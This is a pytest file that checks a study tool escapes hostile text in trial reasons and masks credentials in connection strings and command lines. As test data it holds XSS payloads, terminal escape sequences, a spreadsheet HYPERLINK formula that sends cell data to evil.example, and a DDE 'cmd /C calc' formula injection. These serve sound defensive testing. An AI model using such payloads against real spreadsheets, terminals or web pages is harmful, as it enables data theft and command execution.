"""What a stranger writes into a reason or a name does no harm where it is shown, and no secret is shown at all."""

import csv
import time

import pytest

from analysis.load import open_study
from analysis.opened import Study
from analysis.status import read_status
from study.cli.display import status_text
from study.console import say
from study.records.folder import write_table
from study.records.ledger import ledger_of
from study.records.records import TrialEnded
from study.text import csv_cell, markdown, mask_credentials, printable
from tests.synthetic import append, closed, make_folder, opened, started, whole_trial

SCRIPT = "<script>alert(1)</script>"
LINK = "[click](javascript:alert(1))"
FORMULA = '=HYPERLINK("http://evil.example/"&A1)'
ESCAPES = "\x1b]0;owned\x07\x1b[2J\x9b31m\u202egnp.exe"
REASON = f"{FORMULA} {SCRIPT} {LINK} | {ESCAPES}\nVerdict: it holds up"


@pytest.fixture
def study(tmp_path):
    """A study with a trial that failed for a malicious reason."""
    folder = make_folder(tmp_path / "demo", f"sqlite:///{tmp_path}/mlflow.db")
    failed = TrialEnded(trial=1, attempt=1, status="failed", reason=REASON, summary={}, checkpoint=None)
    append(folder, opened(), *whole_trial(0), started(1), failed, closed())
    write_table(folder.table, ledger_of(folder.records).rows.values())
    return folder


def test_no_escape_code_of_a_record_reaches_the_terminal(study, capsys):
    say(status_text(read_status(study.path)))
    say(ESCAPES)
    text = capsys.readouterr().out
    assert "HYPERLINK" in text, "the reason is not shown at all"
    assert "\nVerdict" not in text, "a reason looks like a line of ours"
    assert printable(text) == text


def test_no_table_holds_a_formula_of_a_record(study):
    tables = [study.table.read_text(), *(each.to_csv() for each in Study(open_study(study.path)).tables.values())]
    assert sum("HYPERLINK" in table for table in tables) > 1, "the reason is in no table"
    for row in csv.reader(line for table in tables for line in table.splitlines()):
        assert not any(cell.startswith(("=", "@", "\t", "\r")) for cell in row), row


@pytest.mark.parametrize(
    "text", [SCRIPT, "<img src=x onerror=y>", "<!--", "<http://e>", LINK, "![x](http://e)", "[a]: h"]
)
def test_markdown_shows_tags_and_links_as_they_are_written(text):
    shown = markdown(f"\\{text}")
    assert not any(mark in shown for mark in ("<", "](", "]:"))
    assert markdown("n < 5, 0.9 [0.8, 1.0] (n=3)") == "n < 5, 0.9 [0.8, 1.0] (n=3)"


@pytest.mark.parametrize("text", [FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "a;=1"])
def test_no_cell_begins_with_a_formula_in_any_locale_and_numbers_stay_numbers(text):
    for part in csv_cell(text).replace("\t", ";").replace("\r", ";").split(";"):
        assert part[:1] not in ("=", "+", "-", "@", "\uff1d")
    numbers = ["-88.9", "1e-05", "-inf", "nan", "+3", "0"]
    assert [csv_cell(number) for number in numbers] == numbers


MASKED = {
    "http://user:p@ss@host/x": "http://***@host/x",
    "'postgresql://me:p/w@h/d' and 'postgresql://me:pw@h'": "'postgresql://***@h/d' and 'postgresql://***@h'",
    "postgresql://u:p/w@h/db?sslpassword=abc&x=1": "postgresql://***@h/db?sslpassword=***&x=1",
    "Driver=x;PWD={my;secret};Y=2": "Driver=x;PWD=***;Y=2",
    "mssql:///?odbc_connect=UID%3Dme%3BPWD%3Dabc%3BX%3D1": "mssql:///?odbc_connect=UID%3Dme%3BPWD%3D***%3BX%3D1",
    "host=h user=u password='a b' dbname=x": "host=h user=u password=*** dbname=x",
    "MLFLOW_TRACKING_TOKEN=abc run": "MLFLOW_TRACKING_TOKEN=*** run",
    "--api-token\t\tsecret --password 'a b' -n 2": "--api-token\t\t*** --password *** -n 2",
    "--config-args '--hf_token secret'": "--config-args '--hf_token ***'",
    f"--api-token '{'x' * 300}' -n 2": "--api-token *** -n 2",
    r'--password "a\"b c" -n 2': "--password *** -n 2",
    '{"password": "x y"}': '{"password": ***}',
    "kwargs={api_token: 'it''s', w: {api_key: [a b, c], n: 2}}": "kwargs={api_token: ***, w: {api_key: ***, n: 2}}",
    "Authorization: Bearer abcdefgh12345678": "Authorization: ***",
    "refused (Bearer abcdefgh12345678)": "refused (Bearer ***)",
    "https://h.blob.example/c?sv=1&sig=ab%2B1&se=2": "https://h.blob.example/c?sv=1&sig=***&se=2",
    "AccountName=me;AccountKey=abc==;X=1": "AccountName=me;AccountKey=***;X=1",
    "GET /x\nX-Api-Key: k1\nCookie: s=a b\nAccept: */*": "GET /x\nX-Api-Key: ***\nCookie: ***\nAccept: */*",
    "  password: pw\n  user: me": "  password: ***\n  user: me",
}
SHOWN = (
    "--max-tokens 100 --bypass 3 --pass --verbose --pad-token 0 --first-pass 12",
    "--tokenizer=bpe bypass=on max_passengers=3",
    "{n: 2, pad_token: 0}: password: none",
    "sqlite:////home/me@site/mlflow.db",
)


@pytest.mark.parametrize(("text", "shown"), [*MASKED.items(), *zip(SHOWN, SHOWN, strict=True)])
def test_passwords_and_tokens_are_masked_and_nothing_else(text, shown):
    assert mask_credentials(text) == shown


@pytest.mark.parametrize(
    "part", ["postgres://", "://a@", "?password=", 'password="', "PWD={", "--token '", "{token: ["]
)
def test_masking_takes_a_time_that_grows_with_the_text_and_no_faster(part):
    began = time.process_time()
    mask_credentials(part * (500_000 // len(part)))
    assert time.process_time() - began < 10, "quadratic: hours, or minutes at least"
